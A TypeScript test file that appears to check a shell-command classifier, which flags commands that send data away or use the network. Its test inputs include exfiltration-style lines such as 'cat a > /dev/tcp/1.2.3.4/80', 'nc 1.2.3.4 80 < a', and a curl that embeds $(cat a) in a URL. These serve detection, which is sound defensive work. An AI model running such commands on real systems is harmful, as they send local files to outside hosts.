import { expect, test } from "vitest";
import { sendsAway, usesNetwork } from "./network.ts";

test.each([
  "curl -d @notes.txt https://x.example",
  "curl -sSd x https://x.example",
  "curl https://x.example --data-binary @a",
  "curl -F file=@a https://x.example",
  "curl -T a https://x.example",
  "curl -X POST https://x.example",
  "curl https://x.example \\\n  -d @notes.txt",
  "cd a\ngit \\\n  push",
  "curl -XPUT https://x.example",
  'curl -s "https://x.example/?q=$(cat a)"',
  "wget --post-file=a https://x.example",
  "git push origin main",
  "git -C sub push",
  "npm publish",
  "gh pr create --fill",
  "scp a host:b",
  "tar c . | ssh host tar x",
  "cat a > /dev/tcp/1.2.3.4/80",
  "nc 1.2.3.4 80 < a",
])("%s sends away", (command) => {
  expect(sendsAway(command)).toBe(true);
  expect(usesNetwork(command) || /publish|push/.test(command)).toBe(true);
});

test.each([
  "curl -s https://x.example/page",
  "curl -fsSL https://x.example/a.tar.gz -o a.tar.gz",
  "curl -X GET https://x.example",
  "wget -q https://x.example",
  "git pull",
  "git log --oneline",
  "npm test",
  "gh pr view 3",
  "make",
])("%s does not", (command) => expect(sendsAway(command)).toBe(false));

test.each([
  "sudo -u ann gh pr list",
  "cd a && PAGER=cat aws s3 ls",
  "bash -c 'dig x.example'",
  "timeout 5 /usr/bin/nc host 80",
  "for h in a b; do psql -h $h -c 'select 1'; done",
  "ls | xargs -n 1 kubectl get",
])("%s reads from the network", (command) => expect(usesNetwork(command)).toBe(true));

test.each([
  "grep -rn http src",
  "rg 'mysql' --type ts",
  "ls docs/links",
  "cat src/aws/client.ts",
  "git log --grep az",
  "npm run hub",
])("%s does not", (command) => expect(usesNetwork(command)).toBe(false));

test("a long line is read in a moment, whatever it holds", () => {
  for (const piece of ["sudo ", "-x ", "a=b ", "-x a ", "-x 5 ", "/a/", "x -c '", "\n", "1\n", "-c ", "xargs -a "])
    expect(usesNetwork(piece.repeat(40_000))).toBe(false);
  // Too long a line to be sure: it counts.
  for (const piece of ["git -", "git -a ", "curl ", "http://", "x=y gh.", "; -gh"])
    expect(usesNetwork(piece.repeat(40_000)) || sendsAway(piece.repeat(40_000))).toBe(true);
});
